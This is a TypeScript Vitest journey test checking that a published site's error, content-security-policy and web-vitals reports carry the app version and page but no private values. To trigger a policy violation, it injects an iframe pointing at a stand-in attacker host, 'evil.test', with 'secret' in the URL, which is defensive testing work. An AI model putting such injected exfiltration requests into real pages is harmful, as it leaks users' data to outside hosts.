import { expect, test } from 'vitest';
import { readReports } from '#scripts/serve/device-reports.ts';
import { openPublished, openPublishedSite } from '#tests/journeys/support/published-site.ts';
import { until } from '#tests/journeys/support/page/waits.ts';

const published = await openPublished();
await published.publish({});

test('an error, a violation of the policy and the visit itself are reported of the version, with nothing of the player', async () => {
  const site = await openPublishedSite(published.folder, ({ kind }) => kind !== 'foreign request');
  const { page, folder } = site;
  await site.load('/login?type=1&pid=secret');
  const [, version] = (await site.running()).split(' ');
  await page.waitForFunction(() =>
    performance.getEntriesByType('resource').some(({ name }) => name.includes('errors-and-vitals')),
  );
  await page.locator('input').first().fill('secret');
  await page.evaluate(() => {
    setTimeout(() => {
      throw new RangeError('no "secret" here');
    });
    document.body.append(
      Object.assign(document.createElement('iframe'), { src: 'http://evil.test/?secret' }),
    );
  });
  const kinds = async () => (await readReports(folder)).map(({ kind }) => kind);
  await until(kinds).toEqual(expect.arrayContaining(['error', 'policy']));
  await page.goto('about:blank');
  await until(kinds).toContain('vitals');
  const reports = await readReports(folder);
  expect(reports.find(({ kind }) => kind === 'error')).toMatchObject({
    version,
    page: '/login',
    what: 'RangeError no * here',
  });
  expect(reports.find(({ kind }) => kind === 'policy')).toMatchObject({ what: 'frame-src http://evil.test' });
  expect(reports.find(({ kind }) => kind === 'vitals')).toMatchObject({
    version,
    page: '/login',
    lcpMs: expect.any(Number) as number,
  });
  expect(JSON.stringify(reports)).not.toContain('secret');
});
